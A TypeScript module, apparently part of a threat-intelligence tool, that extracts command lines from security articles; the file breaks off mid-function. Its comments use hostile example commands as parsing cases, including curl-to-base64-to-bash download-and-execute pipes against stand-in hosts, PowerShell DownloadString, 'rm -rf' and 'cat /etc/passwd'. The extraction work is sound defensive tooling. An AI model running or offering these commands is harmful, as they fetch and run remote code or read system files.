import type { CmdlineItem } from '@huntforge/contracts/extraction';
import { classifyCode } from '../text/code-kind';
import { isProseWord } from '../text/english';
import type { ArticleDocument, Line } from '../text/document';
import {
  STOPWORDS,
  checkCommand,
  isArgumentAfterName,
  isCapitalisedName,
  isStrongArgument,
  tokenize,
  withSpacedProgram,
} from './arguments';
import {
  AMBIGUOUS_COMMANDS,
  BARE_RECON_COMMANDS,
  SUBCOMMANDS,
  isCommandToken,
  isDistinctiveCommand,
  programName,
} from '../command/programs';
import { commandSpans, type CommandSpan } from './command-spans';
import { commandFields } from '../command/event-fields';
import { CAPITALS_TOOLS } from '../command/run-on';

interface Candidate {
  start: number;
  end: number;
  program: string;
  confidence: number;
  /** Read from inside a sentence or quote: dropped when a longer command line contains it. */
  fragment?: boolean;
}

const LIST_MARKER = /^\s*(?:(?:[-*•▪►>]+|\d{1,3}[.)]|[a-z][.)])\s+)?/;
// A cmd prompt ("C:\\Users\\bob>") is a path closed by ">" with no switch, quote or space before the ">":
// "C:\\x\\af.exe -f "(q)" > out.txt" is a command whose output is redirected.
const PROMPT =
  /^(?:PS [A-Za-z]:\\[^>\n]*>\s*|[A-Za-z]:\\(?:[^>\n"\s]|\s(?![-/]))*(?<!\s)>\s*|\$\s+|%\s+|>\s+|[\w.-]+@[\w.-]+:[^$#\n]*[$#]\s*|[\w.-]+:[~/][^$#\s]*[$#]\s+|#\s+(?=\S))/;
const TREE_BRANCH = /^\s*(?:[│┃]\s*)*(?:[└├┗┣╰][─━]{1,3}>?\s*)?/;
const CONTINUATION_END = /(?:\s\^|\s`|\s\\|&&|\|\||\||&)\s*$/;
const VALUE_FLAG_END = /(?:^|\s)(?:-c|-e|-ec|-enc|-encodedcommand|-command|-file|\/c|\/k|\/r|-e:)\s*$/i;

/**
 * Command lines written in the article: lines of code blocks, inline code, list or paragraph lines
 * that start with a program and its arguments (a "Label: command" prefix is dropped), quoted
 * commands in prose and, with stricter rules, commands embedded in a sentence. A program named
 * without arguments ("may have used PowerShell") is not a command line.
 */
export function extractCmdlines(doc: ArticleDocument): CmdlineItem[] {
  const candidates: Candidate[] = [];
  fromCodeBlocks(doc, candidates);
  fromInlineCode(doc, candidates);
  fromProseLines(doc, candidates);
  return finalise(doc, candidates);
}

/**
 * Width of the line-number gutter a page copied with a code block ("1 whoami /all", "2 net view"), per
 * line index: only when every non-empty line of the block starts with the next number in turn.
 */
function gutterWidths(doc: ArticleDocument, firstLine: number, lastLine: number): Map<number, number> {
  const widths = new Map<number, number>();
  let expected: number | null = null;
  for (let i = firstLine; i <= lastLine; i++) {
    const text = doc.lines[i].text;
    if (!text.trim() || /^\s{0,3}(?:`{3,}|~{3,})/.test(text)) continue;
    const m = /^\s*(\d{1,4})(?:[ \t]+|[:|.][ \t]*)(?=\S)/.exec(text);
    if (!m) return new Map();
    const n = Number(m[1]);
    if (expected !== null && n !== expected) return new Map();
    expected = n + 1;
    widths.set(i, m[0].length);
  }
  return widths.size >= 2 ? widths : new Map();
}

function fromCodeBlocks(doc: ArticleDocument, out: Candidate[]): void {
  for (const block of doc.codeBlocks) {
    const kind = classifyCode(block.text, block.lang);
    if (kind.kind === 'query' || kind.kind === 'data') continue;
    const shell = kind.kind === 'shell';
    const gutters = gutterWidths(doc, block.firstLine, block.lastLine);
    const transcript = hasCommandWithArguments(doc, block.firstLine, block.lastLine);
    const only = isSingleLine(doc, block.firstLine, block.lastLine);
    for (let i = block.firstLine; i <= block.lastLine; i++) {
      const line = doc.lines[i];
      if (fromEventFields(line, out, 0.9) || fromShellTails(line, out, 0.9)) continue;
      const gutter = gutters.get(i) ?? 0;
      // A process-tree listing ("└── /bin/sh -c ...") shows each command line after its branch glyph.
      const indent = gutter + line.text.slice(gutter).length - line.text.slice(gutter).replace(TREE_BRANCH, '').length;
      // A log line's timestamp and an event field's label come before the command ("2024-03-02 10:14:22 cmd.exe …",
      // "CommandLine: powershell.exe …").
      const stamped = indent + (LOG_TIMESTAMP.exec(line.text.slice(indent))?.[0].length ?? 0);
      const labelled = stamped + (COMMAND_FIELD.exec(line.text.slice(stamped))?.[0].length ?? 0);
      const prompt = PROMPT.exec(line.text.slice(labelled));
      const afterPrompt = labelled + (prompt ? prompt[0].length : 0);
      const startCol = afterPrompt + cronScheduleLength(line.text.slice(afterPrompt));
      const text = line.text.slice(startCol);
      if (!text.trim() || /^(?:#|\/\/|REM\b|::|<#)/i.test(text) || isOutputRow(text) || PROGRAM_CODE.test(text)) continue;
      // A subshell "( ... ) | crontab -" and a captured output "TOKEN=$(curl ...)" are checked on their first command.
      // A shell's prompt says the line was typed: a bare `systeminfo` after `C:\>` ran.
      const typed = !!prompt && SHELL_PROMPT.test(prompt[0]);
      const bare = typed || (!prompt && isTranscriptWord(text, transcript, only));
      const check = checkCommand(tokenize(text.replace(/^\(\s*/, '').replace(CAPTURE, '')), { allowBare: shell || bare });
      if (!check.ok) {
        if (kind.kind === 'other') fromStringLiterals(line, out);
        continue;
      }
      const last = continueLines(doc, i, block.lastLine, true);
      for (const span of commandSpans(doc.content, line.start + startCol, withoutLiteralNewline(doc, trimmedEnd(doc, doc.lines[last])))) {
        out.push({ start: span.start, end: span.end, program: span.program ?? check.program, confidence: 0.9 });
      }
      i = last;
    }
  }
}

// A prompt a shell prints (cmd's "C:\\>", PowerShell's "PS C:\\>", "$ ", "user@host:~$"), not a comment's "#" or a quote's ">".
const SHELL_PROMPT = /^(?:PS |[A-Za-z]:\\|\$|[\w.-]+@|[\w.-]+:[~/])/;

/** True when a line of the block (unprompted) is a program with its arguments: the block is a list of commands run. */
function hasCommandWithArguments(doc: ArticleDocument, firstLine: number, lastLine: number): boolean {
  for (let i = firstLine; i <= lastLine; i++) {
    const tokens = tokenize(doc.lines[i].text);
    if (tokens.length > 1 && checkCommand(tokens).ok) return true;
  }
  return false;
}

/**
 * A lone command on its own line of a block that lists other commands with their arguments: it ran without any. Not
 * a word of a block that only lists program names (`cmd.exe`, `rundll32.exe`, or `systeminfo`, `whoami`, `quser`). A
 * Windows discovery program (`chcp`, `driverquery`) that is all a block shows is the command run.
 */
function isTranscriptWord(text: string, transcript: boolean, only: boolean): boolean {
  const word = text.trim();
  return (transcript && /^[a-z][a-z0-9]{2,}$/.test(word) && isDistinctiveCommand(word)) || (only && isBareRecon(word));
}

/** True when the block holds a single line of text between its fences. */
function isSingleLine(doc: ArticleDocument, firstLine: number, lastLine: number): boolean {
  let lines = 0;
  for (let i = firstLine; i <= lastLine; i++) if (doc.lines[i].text.trim() && !/^\s{0,3}(?:`{3,}|~{3,})/.test(doc.lines[i].text)) lines++;
  return lines === 1;
}

/** A Windows discovery program run without arguments, in any case (`chcp`, `DRIVERQUERY`, `systeminfo.exe`). */
function isBareRecon(word: string): boolean {
  return /^[A-Za-z]+(?:\.exe)?$/i.test(word) && BARE_RECON_COMMANDS.has(programName(word));
}

/**
 * A line of process-event fields: the values of its command-line fields, read up to the next field's label, are
 * command lines even without arguments (the event says the process ran). Returns false when the line is not one
 * for this reader: not a line of fields, or a single field whose value the ordinary reading handles (a command
 * with arguments, possibly continued on the next lines).
 */
function fromEventFields(line: Line, out: Candidate[], confidence: number): boolean {
  const fields = commandFields(line.text);
  if (!fields) return false;
  const values = fields.commands.map((value) => ({ ...value, text: line.text.slice(value.start, value.end) }));
  if (fields.fields === 1 && !values.some((value) => !/\s/.test(value.text))) return false;
  for (const value of values) {
    const check = checkCommand(tokenize(value.text), { allowBare: true });
    if (check.ok) out.push({ start: line.start + value.start, end: line.start + value.end, program: check.program, confidence });
  }
  return true;
}

// cmd's run switch and what follows it, as telemetry lists the commands a shell ran ("/c whoami /groups /c nltest …").
const SHELL_TAIL = /(?:^|\s)\/[ck]\s+(?=\S)/gi;
// An elision the author put after a command: "ping -n 1 host (...)", "… […]".
const ELISION = /\s+(?:\(\s*(?:\.{3}|…)\s*\)|\[\s*(?:\.{3}|…)\s*\]|\.{3}|…)$/;

/**
 * A line that lists the command lines a shell ran by their `/c` tails, as a process tree's children show them
 * ("/c systeminfo /c nltest /dclist: /c whoami /groups"): each tail is one command. A tail whose program is cmd
 * itself keeps the nested `/c` (`/c cmd /c whoami`). Returns false when the line does not start with a tail.
 */
function fromShellTails(line: Line, out: Candidate[], confidence: number): boolean {
  const lead = LIST_MARKER.exec(line.text)?.[0].length ?? 0;
  const tails = [...line.text.matchAll(SHELL_TAIL)];
  if (tails.length === 0 || (tails[0]?.index as number) > lead) return false;
  const starts = tails.map((m) => (m.index as number) + m[0].length);
  let found = false;
  for (let k = 0; k < starts.length; k++) {
    const start = starts[k] as number;
    const next = /^cmd(?:\.exe)?$/i.test(tokenize(line.text.slice(start))[0] ?? '') ? k + 2 : k + 1;
    let end = next < starts.length ? (tails[next]?.index as number) : line.text.length;
    k = next - 1;
    const text = line.text.slice(start, end).replace(ELISION, '').trimEnd();
    end = start + text.length;
    const check = checkCommand(tokenize(text), { allowBare: true });
    if (!check.ok) continue;
    out.push({ start: line.start + start, end: line.start + end, program: check.program, confidence });
    found = true;
  }
  return found;
}

// A control statement of program code opening its block ("if (system(\"id\") == -1) {", "} else if ($x) {"): its
// condition may hold a string or a call but the line runs nothing itself.
const PROGRAM_CODE = /^(?:\}\s*)?(?:if|else\s+if|elseif|elif|while|for|foreach|switch|catch)\s*\(.*\)\s*\{?\s*$/i;

// "2024-03-02 10:14:22", "2024-03-02T10:14:22.123Z", "[10:14:22]", "10:14:22 UTC -": a log line's time stamp.
const LOG_TIMESTAMP =
  /^\[?(?:\d{4}-\d{2}-\d{2}[T ]\d{1,2}:\d{2}(?::\d{2}(?:[.,]\d{1,9})?)?(?:Z|[+-]\d{2}:?\d{2})?|\d{1,2}:\d{2}:\d{2}(?:[.,]\d{1,9})?)\]?(?:\s+(?:UTC|GMT))?(?:\s+[-|>:]|\s*[|>])?\s+(?=\S)/;
// An event field that holds a command line, unquoted after its label: "CommandLine: …", "process.command_line: …".
const COMMAND_FIELD =
  /^(?:[-*]\s+)?(?:Parent\s*)?(?:Process\s*)?Command\s*Line\s*[:=]\s*(?=[^\s"'])|^(?:process\.(?:parent\.)?command_line|process\.args)\s*[:=]\s*(?=[^\s"'[])/i;

// A shell variable that captures a command's output ("TOKEN=$(curl …)"): the command is checked on its own.
const CAPTURE = /^[A-Za-z_]\w*=\$\(\s*/;

/**
 * A row of a tool's tabular output ("svchost.exe      908 Services     0   12,344 K"): columns set apart by
 * runs of spaces, and nothing a command line has (a switch, a path, a quote, an operator).
 */
function isOutputRow(text: string): boolean {
  if ((text.match(/\S {3,}(?=\S)/g) ?? []).length < 2) return false;
  const rest = text.trim().split(/\s+/).slice(1);
  return !rest.some((word) => /^[-/]|[\\/"'=|&<>]/.test(word));
}

// A string literal in program code: "curl -fsSL http://x/j.sh".execute(), subprocess.run('...').
const STRING_LITERAL = /(["'`])((?:(?!\1)[^\\\n]|\\.){3,400})\1/g;

/** Commands a script (Groovy, Python, JavaScript...) hands to a shell as string literals. */
function fromStringLiterals(line: Line, out: Candidate[]): void {
  for (const m of line.text.matchAll(STRING_LITERAL)) {
    const check = checkCommand(tokenize(m[2]));
    if (!check.ok || !isDistinctiveCommand(check.program)) continue;
    const start = line.start + m.index + 1;
    out.push({ start, end: start + m[2].length, program: check.program, confidence: 0.7, fragment: true });
  }
}

// A crontab entry: five time fields (at least one "*") or an @nickname, then, in /etc/crontab and
// cron.d files, a user name.
const CRON_SCHEDULE =
  /^(?=[^\n]*?\*)(?:[\d*/,-]+[ \t]+){4}[\d*/,-]+[ \t]+|^@(?:reboot|hourly|daily|weekly|monthly|yearly|annually|midnight)[ \t]+/;
const CRON_USER = /^[a-z_][a-z0-9_-]{0,31}[ \t]+/;

/** Length of a crontab schedule (and user field) before the command of a crontab line, else 0. */
function cronScheduleLength(text: string): number {
  const schedule = CRON_SCHEDULE.exec(text);
  if (!schedule) return 0;
  const rest = text.slice(schedule[0].length);
  if (checkCommand(tokenize(rest), { allowBare: true }).ok) return schedule[0].length;
  const user = CRON_USER.exec(rest);
  return user && checkCommand(tokenize(rest.slice(user[0].length)), { allowBare: true }).ok ? schedule[0].length + user[0].length : 0;
}

function fromInlineCode(doc: ArticleDocument, out: Candidate[]): void {
  for (const code of doc.inlineCode) {
    const prompt = PROMPT.exec(code.text);
    const offset = prompt ? prompt[0].length : 0;
    const body = code.text.slice(offset).replace(CAPTURE, '');
    const check = checkCommand(tokenize(body), { allowBare: isBareRecon(body.trim()) });
    if (!check.ok) continue;
    for (const span of commandSpans(doc.content, code.start + offset, code.end))
      out.push({ start: span.start, end: span.end, program: span.program ?? check.program, confidence: 0.85 });
  }
}

function fromProseLines(doc: ArticleDocument, out: Candidate[]): void {
  let commandColumn: number | null = null;
  for (let i = 0; i < doc.lines.length; i++) {
    if (doc.inFence[i]) continue;
    const line = doc.lines[i];
    if (!TABLE_ROW.test(line.text)) commandColumn = null;
    else if (TABLE_SEPARATOR.test(doc.lines[i + 1]?.text ?? '')) {
      commandColumn = commandColumnOf(line.text);
      i++;
      continue;
    } else if (commandColumn !== null) {
      fromTableCell(doc, line, commandColumn, out);
      continue;
    }
    if (!line.text.trim() || line.text.includes('`')) {
      if (line.text.trim()) fromQuotedAndEmbedded(doc, line, out, 0);
      continue;
    }
    if (fromEventFields(line, out, 0.8) || fromShellTails(line, out, 0.8)) continue;
    const marker = LIST_MARKER.exec(line.text);
    const listCol = marker ? marker[0].length : 0;
    const bodyCol = listCol + (LOG_TIMESTAMP.exec(line.text.slice(listCol))?.[0].length ?? 0);
    const body = line.text.slice(bodyCol);
    const prompt = PROMPT.exec(body);
    const col = bodyCol + (prompt ? prompt[0].length : 0);
    const labelled = afterLabel(line.text, col);
    const startCol = labelled ?? col;
    const check = checkCommand(tokenize(line.text.slice(startCol)));
    const inQuotes = check.ok ? quotedWhole(line.text.slice(startCol)) : null;
    if (inQuotes) {
      const from = line.start + startCol + inQuotes.start;
      for (const span of adjacent(commandSpans(doc.content, from, from + inQuotes.body.length)))
        out.push({
          start: span.start,
          end: span.end,
          program: span.program ?? inQuotes.program,
          confidence: labelled === null ? 0.8 : 0.75,
        });
      continue;
    }
    if (check.ok && !(startCol === 0 && AMBIGUOUS_COMMANDS.has(programName(check.program)) && continuesSentence(doc, i))) {
      const last = continueLines(doc, i, doc.lines.length - 1, false);
      const end = stripTrailingComment(doc, line.start + startCol, trimmedEnd(doc, doc.lines[last]));
      const spans = adjacent(commandSpans(doc.content, line.start + startCol, end));
      for (const span of spans)
        out.push({ start: span.start, end: span.end, program: span.program ?? check.program, confidence: labelled === null ? 0.8 : 0.75 });
      const resumed = spans[spans.length - 1]?.end ?? end;
      // Prose after the commands of a line a page ran together may name further commands.
      if (last === i && resumed < end) fromQuotedAndEmbedded(doc, line, out, resumed - line.start);
      i = last;
      continue;
    }
    fromQuotedAndEmbedded(doc, line, out, col);
  }
}

// "… command line (that) initiated the process: C:\\…\\x.exe", "The command line was: %TEMP%\\a.exe".
const NAMED_COMMAND_LINE =
  /\bcommand[\s-]?line\b[^.:\n]{0,60}?(?::|\s(?:was|is|reads|read))\s+((?:[A-Za-z]:|%\w+%)\\(?:[^\s"'<>|\\]+\\)*[^\s"'<>|\\]+\.exe)(?=$|\s|[,;]|\.(?:\s|$))/gi;

// A whole line in quotes: "curl -s https://x/a | base64 -d | bash", ending the line or its sentence.
const WHOLE_QUOTE = /^(?:"((?:[^"\\\n]|\\.)+)"|“([^“”\n]+)”|'([^'\n]+)')[.,;]?\s*$/;

/**
 * The command a line (or what follows its label) sets in quotes as a whole: the quotes are the article's, not the
 * command's. Not a lone quoted program path ("C:\\Program Files\\x.exe"), whose quotes hold its spaces.
 */
function quotedWhole(text: string): { start: number; body: string; program: string } | null {
  const m = WHOLE_QUOTE.exec(text);
  const body = m ? ((m[1] ?? m[2] ?? m[3]) as string) : '';
  if (!m || !/\s/.test(body.trim())) return null;
  const words = tokenize(body);
  if (words[0] !== body.trimStart().split(/\s+/)[0]) return null;
  const check = checkCommand(words);
  return check.ok ? { start: 1, body, program: check.program } : null;
}

const TABLE_ROW = /^\s*\|.*\|\s*$/;
const TABLE_SEPARATOR = /^\s*\|(?:\s*:?-{2,}:?\s*\|)+\s*$/;
const COMMAND_HEADER = /^(?:(?:executed\s+|process\s+)?command(?:[\s-]*lines?)?s?|cmdline|commandline|cmd)$/i;

/** The index of a markdown table's command column ("Command", "Command line"), from its header row. */
function commandColumnOf(header: string): number | null {
  const bars = cellBars(header);
  for (let c = 0; c + 1 < bars.length; c++) {
    const cell = header
      .slice((bars[c] as number) + 1, bars[c + 1])
      .trim()
      .replace(/^[*_]+|[*_]+$/g, '');
    if (COMMAND_HEADER.test(cell)) return c;
  }
  return null;
}

/**
 * The command cell of a markdown table row ("| whoami /groups | Shows the user's groups |"), read on its
 * own, so the column bar is never a pipe and the description beside a command is never its argument.
 */
function fromTableCell(doc: ArticleDocument, line: Line, column: number, out: Candidate[]): void {
  const bars = cellBars(line.text);
  if (column + 1 >= bars.length) return;
  let from = (bars[column] as number) + 1;
  let to = bars[column + 1] as number;
  while (from < to && /\s/.test(line.text[from] as string)) from++;
  while (to > from && /\s/.test(line.text[to - 1] as string)) to--;
  const cell = line.text.slice(from, to);
  // A cell set as inline code is read by fromInlineCode.
  if (!cell || cell.includes('`')) return;
  const check = checkCommand(tokenize(cell));
  if (!check.ok) return;
  for (const span of adjacent(commandSpans(doc.content, line.start + from, line.start + to))) {
    out.push({ start: span.start, end: span.end, program: span.program ?? check.program, confidence: 0.8 });
  }
}

/** Columns of the bars that separate a table row's cells: a bar inside inline code or escaped (`\|`) is text. */
function cellBars(text: string): number[] {
  const bars: number[] = [];
  let inCode = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (ch === '`') inCode = !inCode;
    else if (ch === '|' && !inCode && text[i - 1] !== '\\') bars.push(i);
  }
  return bars;
}

/**
 * The line carries on a sentence wrapped from the line before ("... our earlier reports in this series
 * / at https://..."): a word that is also a program ("at", "find", "set") starting it is prose.
 */
function continuesSentence(doc: ArticleDocument, index: number): boolean {
  const previous = doc.lines[index - 1];
  if (!previous || doc.inFence[previous.index] || !previous.text.trim()) return false;
  const text = previous.text.trim();
  return /[A-Za-z,]$/.test(text) && !/^(?:#|[-*•]\s|\d{1,3}[.)]\s|\|)/.test(text) && tokenize(text).length >= 4;
}

/** "Label text: command ..." — the offset of the command when a short label precedes it. */
function afterLabel(text: string, from: number): number | null {
  const colon = text.indexOf(': ', from);
  if (colon < 0 || colon - from > 80) return null;
  const label = text.slice(from, colon);
  if (/["'`]/.test(label) || tokenize(label).length > 8 || /^[A-Za-z]$/.test(label)) return null;
  let start = colon + 2;
  while (text[start] === ' ') start++;
  return checkCommand(tokenize(text.slice(start))).ok ? start : null;
}

const QUOTED = /(?<=^|[\s(:,])(["'“‘])([^"'“”‘’\n]{3,400}?)(["'”’])(?=$|[\s).,;:])/g;
// A quoted one-liner that quotes within itself: "bash -c 'curl … | base64 -d | sh'", 'echo "…" | base64 -d | bash',
// "/bin/bash -c \"$(curl …)\"". Each style of quote closes only on its own kind (an escaped one does not close it).
const QUOTED_NESTED =
  /(?<=^|[\s(:,])(?:"((?:[^"\\\n]|\\.){3,400}?)"|“([^“”\n]{3,400}?)”|'([^'\n]{3,400}?)'|‘([^‘’\n]{3,400}?)’)(?=$|[\s).,;:])/g;

function fromQuotedAndEmbedded(doc: ArticleDocument, line: Line, out: Candidate[], fromCol: number): void {
  const text = line.text;
  // Columns of the quoted commands found: a program inside one is not read again as a command embedded in the sentence.
  const quoted: Array<[number, number]> = [];
  const take = (index: number, body: string) => {
    if (doc.isInCode(line.start + index)) return;
    const check = checkCommand(tokenize(body));
    if (!check.ok) return;
    const start = line.start + index + 1;
    out.push({ start, end: start + body.length, program: check.program, confidence: 0.75, fragment: true });
    quoted.push([index + 1, index + 1 + body.length]);
  };
  QUOTED.lastIndex = 0;
  for (let m = QUOTED.exec(text); m; m = QUOTED.exec(text)) take(m.index, m[2] as string);
  for (const m of text.matchAll(QUOTED_NESTED)) {
    const body = (m[1] ?? m[2] ?? m[3] ?? m[4]) as string;
    if (/["'“”‘’]/.test(body)) take(m.index, body);
  }
  // "the following command line initiated the process: C:\\Users\\x\\Downloads\\host.exe": a program the sentence
  // calls a command line is one even without arguments (with them, the reading below finds the longer line).
  for (const m of text.matchAll(NAMED_COMMAND_LINE)) {
    const path = m[1] as string;
    const index = (m.index as number) + m[0].length - path.length;
    if (index < fromCol || doc.isInCode(line.start + index)) continue;
    out.push({ start: line.start + index, end: line.start + index + path.length, program: path, confidence: 0.7, fragment: true });
  }
  // Commands embedded in a sentence: a distinctive program followed directly by a strong argument.
  const tokenRe = /\S+/g;
  tokenRe.lastIndex = fromCol;
  const tokens: Array<{ text: string; start: number }> = [];
  for (let m = tokenRe.exec(text); m; m = tokenRe.exec(text)) tokens.push({ text: m[0], start: m.index });
  for (let t = 1; t < tokens.length - 1; t++) {
    // A quoted program path with spaces ("C:\Program Files\App\app.exe" x -y) is one word.
    const window = tokens.slice(t, t + 8).map((token) => token.text);
    const spaced = withSpacedProgram(window);
    const joined = /^"/.test(tokens[t].text) && spaced[0] !== tokens[t].text ? window.length - spaced.length + 1 : 1;
    const word = joined > 1 ? (spaced[0] as string) : tokens[t].text.replace(/^\(/, '');
    if ((joined === 1 && /^["'`“‘]/.test(word)) || doc.isInCode(line.start + tokens[t].start)) continue;
    if (quoted.some(([from, to]) => tokens[t].start >= from && tokens[t].start < to)) continue;
    if (t + joined >= tokens.length) continue;
    const next = tokens[t + joined].text;
    const sub = SUBCOMMANDS[programName(word)]?.has(next.toLowerCase()) ?? false;
    // A tool whose name is also a word (`reg`, `sc`, `net`) counts in prose with its sub-command and an object: "sc delete Sense".
    const object = tokens[t + 2]?.text.replace(/[.,;:)]+$/, '') ?? '';
    const worded =
      sub &&
      !VERB_TOOLS.has(word) &&
      (word === word.toLowerCase() || (/^[A-Z]{2,8}$/.test(word) && CAPITALS_TOOLS.has(word.toLowerCase()))) &&
      isCommandToken(word.toLowerCase()) &&
      object !== '' &&
      !STOPWORDS.has(object.toLowerCase()) &&
      !CONJUNCTIONS.has(object.toLowerCase());
    const shaped = shapedFileCommand(
      word,
      tokens.slice(t + 1, t + 4).map((token) => token.text),
    );
    if (!isDistinctiveCommand(word) && !worded && !shaped) continue;
    // "grep / zgrep": a slash between two program names offers a choice of tools, not a root path.
    if (next === '/' && /^[A-Za-z][\w.-]*[,.;:]?$/.test(tokens[t + joined + 1]?.text ?? '')) continue;
    const argument = isCapitalisedName(word) ? isArgumentAfterName(next) : isStrongArgument(next);
    // A quoted program path is a program: a word after it is its argument unless it reads as prose ("… x -y" is
    // WinRAR's extract, "… a -ep1" its archive command, since a switch follows).
    const quotedProgram = joined > 1 && (!isProseWord(next) || /^[-/][A-Za-z]/.test(tokens[t + joined + 1]?.text ?? ''));
    if (!argument && !sub && !quotedProgram) continue;
    if (/^[("']/.test(next) && !/^\(/.test(tokens[t].text)) continue;
    // `sudo systemctl start x` in a sentence: the command is run with the privileges sudo gives it.
    const elevated = t > 0 && /^(?:sudo|doas)$/.test(tokens[t - 1]?.text ?? '');
    const startCol = elevated
      ? (tokens[t - 1] as { start: number }).start
      : joined > 1
        ? tokens[t].start
        : tokens[t].start + (tokens[t].text.length - word.length);
    // "The one-liner (curl -s http://x/a | bash) downloads …": a command the sentence opened a bracket for ends at its close.
    // Not "(New-Object Net.WebClient).DownloadString(…)", where the bracket is the command's own.
    const bracket = /^\(/.test(tokens[t].text) && joined === 1 ? closingBracket(text, startCol) : -1;
    const closing = bracket >= 0 && /^(?:$|[\s,;:])/.test(text.slice(bracket + 1, bracket + 2)) ? bracket : -1;
    const runEnd = closing >= 0 ? line.start + closing : Math.min(line.end, line.start + startCol + EMBEDDED_RUN);
    const spans = adjacent(commandSpans(doc.content, line.start + startCol, runEnd, { proseStop: true }));
    let endAt = line.start + startCol;
    for (const span of spans) {
      let spanEnd = span.end;
      // `find … -exec cat {} \;` ends in its escaped semicolon, which is the command's, not the sentence's.
      const escapedEnd = (at: number) => doc.content.slice(at - 2, at) === '\\;';
      if (doc.content.slice(spanEnd - 1, spanEnd + 1) === '\\;') spanEnd++;
      while (
        spanEnd > span.start &&
        /[.,;:)]/.test(doc.content[spanEnd - 1] as string) &&
        !escapedEnd(spanEnd) &&
        !balancedParen(doc.content.slice(span.start, spanEnd))
      )
        spanEnd--;
      // A switch that ends in a colon keeps it (`nltest /dclist:`); the space some pages set before a full stop goes.
      while (
        spanEnd > span.start &&
        !escapedEnd(spanEnd) &&
        (/[\s.,;]/.test(doc.content[spanEnd - 1] as string) ||
          (doc.content[spanEnd - 1] === ':' && !/\s\/[A-Za-z_]\w*:$/.test(doc.content.slice(span.start, spanEnd))))
      )
        spanEnd--;
      // A command set in bold ("… was **/bin/sh -c x**") ends before the closing marker.
      const boldOpen = ((doc.content.slice(line.start, span.start).match(/\*\*/g) ?? []).length & 1) === 1;
      if (boldOpen && doc.content.slice(spanEnd - 2, spanEnd) === '**') spanEnd -= 2;
      // A quote the sentence closed after the command ("‘echo "…" | base64 -d | bash’") is not the command's.
      const last = doc.content[spanEnd - 1] as string;
      if (/["'’”]/.test(last) && countOf(doc.content.slice(span.start, spanEnd), last) % 2 === 1 && !/[‘“]/.test(last)) spanEnd--;
      if (spanEnd > span.start + (span.program ?? word).length)
        out.push({ start: span.start, end: spanEnd, program: span.program ?? word, confidence: 0.6, fragment: true });
      endAt = Math.max(endAt, span.end);
    }
    while (t + 1 < tokens.length && line.start + tokens[t + 1].start < endAt) t++;
  }
}

// A POSIX path argument: `/var/log/x`, `~/.ssh`, `./run.sh`, `$HOME/x`, `/tmp/*` (not a lone `/`, which offers a choice).
const POSIX_PATH = /^["']?(?:\/[\w.*-]|~\/|\.{1,2}\/|\$\{?\w+\}?\/)/;
const LONG_POSIX_PATH = /^["']?(?:(?:\/[\w.*-]+){2,}|~\/[\w.*-]+)/;
// The tests of `find` that only a command line has.
const FIND_TEST =
  /^-(?:name|iname|type|path|ipath|perm|mtime|mmin|ctime|cmin|atime|newer|size|user|group|exec|execdir|delete|maxdepth|mindepth|print0?|regex)$/;

/**
 * A file tool whose name is also a word or an abbreviation (`rm`, `find`, `cat`, `ln`, `touch`), quoted in a sentence
 * with the arguments only its command line has: `rm -rf /tmp/.x`, `find / -name "*.sh" -delete`, `cat /etc/passwd`,
 * `ln -s /tmp/x /usr/bin/y`, and a shell with its quoted script (`sh -c "…"`). Not "you will find /etc/passwd changed" (no
 * test follows the path) nor a bare `rm -rf`.
 */
function shapedFileCommand(word: string, rest: string[]): boolean {
  const [first = '', second = ''] = rest;
  const afterSwitches = /^-[A-Za-z]{1,4}$/.test(first) ? second : first;
  switch (word) {
    case 'rm':
      return POSIX_PATH.test(afterSwitches);
    case 'find':
      return (POSIX_PATH.test(first) || /^(?:\/|\.|~)$/.test(first)) && FIND_TEST.test(second);
    case 'cat':
    case 'touch':
      return LONG_POSIX_PATH.test(afterSwitches);
    case 'ln':
      return /^-[sfnv]{1,4}$/.test(first) && POSIX_PATH.test(second);
    // A shell handed a quoted script: `sh -c "curl -fsSL http://x/a | sh"` (not "sh -c" named as an option in prose).
    case 'sh':
    case 'bash':
    case 'zsh':
    case 'dash':
    case 'ksh':
      return /^-[a-z]{0,3}c$/.test(first) && /^["'“‘]\S/.test(second);
    default:
      return false;
  }
}

// Tools named by an English verb whose sub-command reads as its object in a sentence ("we query user accounts").
const VERB_TOOLS: ReadonlySet<string> = new Set(['query', 'route']);

// Words that join a sentence's parts and are not function words elsewhere ("net group for local enumeration").
const CONJUNCTIONS: ReadonlySet<string> = new Set(['for', 'nor', 'yet', 'per', 'across', 'among', 'toward', 'towards']);

/** How much running text after a program in a sentence is read for its command and the commands run on after it. */
const EMBEDDED_RUN = 1500;

/** The first span and those the page ran on straight after it; a span after prose is not taken on trust. */
function adjacent(spans: CommandSpan[]): CommandSpan[] {
  const out: CommandSpan[] = [];
  for (const span of spans) {
    if (out.length > 0 && !span.adjacent) break;
    out.push(span);
  }
  return out;
}

/** Column of the ")" that closes a bracket opened just before `from`, outside quotes; -1 when the line never closes it. */
function closingBracket(text: string, from: number): number {
  let depth = 0;
  let quote: string | null = null;
  for (let i = from; i < text.length; i++) {
    const ch = text[i] as string;
    if (quote) {
      if (ch === quote) quote = null;
    } else if (ch === '"' || ch === "'") quote = ch;
    else if (ch === '(') depth++;
    else if (ch === ')' && depth-- === 0) return i;
  }
  return -1;
}

function balancedParen(text: string): boolean {
  let depth = 0;
  for (const ch of text) {
    if (ch === '(') depth++;
    else if (ch === ')') depth--;
  }
  return depth >= 0 && !text.endsWith(')') ? true : depth === 0;
}

/** Index of the last line of a command that continues over several lines. */
function continueLines(doc: ArticleDocument, first: number, limit: number, inCodeBlock: boolean): number {
  let last = first;
  let quotes = countQuotes(doc.lines[first].text);
  while (last < limit && last - first < 12) {
    const text = doc.lines[last].text;
    const next = doc.lines[last + 1];
    const openQuote = quotes % 2 === 1;
    // A code block's double-quoted script may hold blank lines (`powershell -Command "` … `"`): it carries on
    // over them when a later line of the block closes the quote.
    if (next && !next.text.trim() && inCodeBlock && openQuote && closesQuoteWithin(doc, last + 1, Math.min(limit, first + 12))) {
      last++;
      continue;
    }
    if (!next || !next.text.trim() || (!inCodeBlock && doc.inFence[next.index])) break;
    const marker = CONTINUATION_END.test(text) || VALUE_FLAG_END.test(text);
    // A code block's command wrapped without a marker: an indented line carries on a line that left a
    // parenthesis open or ended on a switch whose value comes next ("… -OutFile" / "    \"$env:TEMP\\a.zip\"").
    const wrapped =
      inCodeBlock &&
      /^[ \t]+\S/.test(next.text) &&
